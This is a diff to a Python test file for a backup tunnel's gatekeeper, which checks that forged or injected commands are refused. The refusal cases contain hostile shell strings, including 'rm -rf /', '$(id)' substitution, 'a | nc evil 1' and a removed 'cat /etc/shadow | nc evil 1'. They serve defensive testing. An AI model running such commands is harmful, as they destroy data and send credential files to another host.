@@ -6,6 +6,7 @@ change of the server's command shape that the gatekeeper no longer understands f
 
 from __future__ import annotations
 
+import base64
 import os
 import shlex
 import socket
@@ -19,7 +20,12 @@ from hypothesis import strategies as st
 
 from borgtunnel import borg
 from borgtunnel.client import gatekeeper as gk
-from borgtunnel.remote import cleanup_command, remove_command, run_command
+from borgtunnel.remote import (
+    REQUEST_RESTORE,
+    cleanup_command,
+    remove_command,
+    run_command,
+)
 
 HOME = "/home/u"
 
@@ -48,6 +54,19 @@ def server_run_command(
         borg.RSH_BY_TOOL["nc"],
         borg.RSH_BY_TOOL["socat"],
         borg.with_env(argv, env if env is not None else borg.client_env(encrypted=True)),
+    )
+
+
+def restore_command(target: Path, mode: str) -> str:
+    """The shape restore.py sends: the run envelope around the target script and borg extract."""
+    wrapped = [
+        *("env", "LANG=C.UTF-8"),
+        *("sh", "-c", "any script", "borgtunnel-restore", str(target), mode),
+        *("borg", "extract", "--list", "--"),
+        *("ssh://borgtunnel/srv/borg/web1::web1-2026", "etc/hosts"),
+    ]
+    return run_command(
+        "~/.cache/borgtunnel/web1.sock", "nc-rsh", "socat-rsh", wrapped, kind=REQUEST_RESTORE
     )
 
 
@@ -140,6 +159,12 @@ def test_the_servers_cleanup_commands_are_understood(tmp_path: Path) -> None:
 # --- refusals --------------------------------------------------------------------------------
 
 
+def forged(kind: str, set_line: str) -> str:
+    """A command in the server's envelope whose ``set --`` line is raw text of our choosing."""
+    program = f"# {kind}\nset -- {set_line}\nexit 0\n".encode()
+    return gk.DECODER_HEAD + base64.b64encode(program).decode() + gk.DECODER_TAIL
+
+
 @pytest.mark.parametrize(
     ("command", "reason"),
     [
@@ -148,12 +173,17 @@ def test_the_servers_cleanup_commands_are_understood(tmp_path: Path) -> None:
         ("sh -c 'id' borgtunnel-run", "not a borgtunnel request"),
         ("rm -rf /", "not a borgtunnel request"),
         ("true; touch /tmp/PWNED", "not a borgtunnel request"),
-        ("echo $(id)", "shell syntax '$'"),
-        ("cat /etc/shadow | nc evil 1", "shell syntax '|'"),
-        ('echo "$HOME"', "shell expansion '$'"),
-        ("echo `id`", "shell syntax '`'"),
-        ("echo 'unterminated", "unterminated single quote"),
-        ("", "empty command"),
+        ("", "not a borgtunnel request"),
+        (gk.DECODER_HEAD + "$(id)" + gk.DECODER_TAIL, "the payload is not base64"),
+        (gk.DECODER_HEAD + "!!!!" + gk.DECODER_TAIL, "the payload is not base64"),
+        (forged("borgtunnel-remove", "$(id)"), "shell syntax '$'"),
+        (forged("borgtunnel-remove", "a | nc evil 1"), "shell syntax '|'"),
+        (forged("borgtunnel-remove", '"$HOME"'), "shell expansion '$'"),
+        (forged("borgtunnel-remove", "`id`"), "shell syntax '`'"),
+        (forged("borgtunnel-remove", "a; touch /tmp/PWNED"), "shell syntax ';'"),
+        (forged("borgtunnel-remove", "'unterminated"), "unterminated single quote"),
+        (forged("borgtunnel-evil", "/x.sock"), "not a borgtunnel request"),
+        (forged("borgtunnel-cleanup", "12x /a.sock /a.sock.pid"), "not a borgtunnel request"),
     ],
 )
 def test_anything_but_a_request_is_refused(command: str, reason: str) -> None:
@@ -271,26 +301,7 @@ def test_restore_is_refused_unless_the_policy_allows_it_into_that_target(
     tmp_path: Path,
 ) -> None:
     target = tmp_path / "restore" / "today"
-    command = shlex.join(
-        [
-            "sh",
-            "-c",
-            "any script",
-            "borgtunnel-restore",
-            "~/.cache/borgtunnel/web1.sock",
-            "nc-rsh",
-            "socat-rsh",
-            str(target),
-            "env",
-            "LANG=C.UTF-8",
-            "borg",
-            "extract",
-            "--list",
-            "--",
-            "ssh://borgtunnel/srv/borg/web1::web1-2026",
-            "etc/hosts",
-        ]
-    )
+    command = restore_command(target, "extract")
     assert "restore is not allowed" in refusal(command)
     assert f"restore target '{target}' is outside" in refusal(
         command, policy(restore=True, restore_targets=("/srv/elsewhere",))
@@ -478,8 +489,12 @@ def test_the_gatekeepers_borg_rsh_is_the_servers() -> None:
     assert frozenset(gk.SOCAT_UNSAFE) == borg.SOCAT_UNSAFE
 
 
+# No lone surrogates: a TOML file cannot hold one, so no configured value ever has one.
 hostile = st.text(
-    st.one_of(st.sampled_from(list("$`'\"\\;&|<>(){}[]*?~#!\n\t -=:ü")), st.characters()),
+    st.one_of(
+        st.sampled_from(list("$`'\"\\;&|<>(){}[]*?~#!\n\t -=:ü")),
+        st.characters(codec="utf-8"),
+    ),
     min_size=1,
     max_size=10,
 ).filter(lambda v: "\0" not in v)
@@ -516,3 +531,10 @@ def test_the_gatekeeper_reads_back_exactly_the_servers_values(
         "--json",
         *(f"--exclude={pattern}" for pattern in exclude),
     )
+
+
+def test_the_gatekeepers_envelope_is_the_servers() -> None:
+    """The gatekeeper keeps its own copy of remote.py's decoder (it imports nothing)."""
+    for command in (remove_command("/x.sock"), cleanup_command(1, "/x.sock"), server_run_command()):
+        assert command.startswith(gk.DECODER_HEAD)
+        assert command.endswith(gk.DECODER_TAIL)
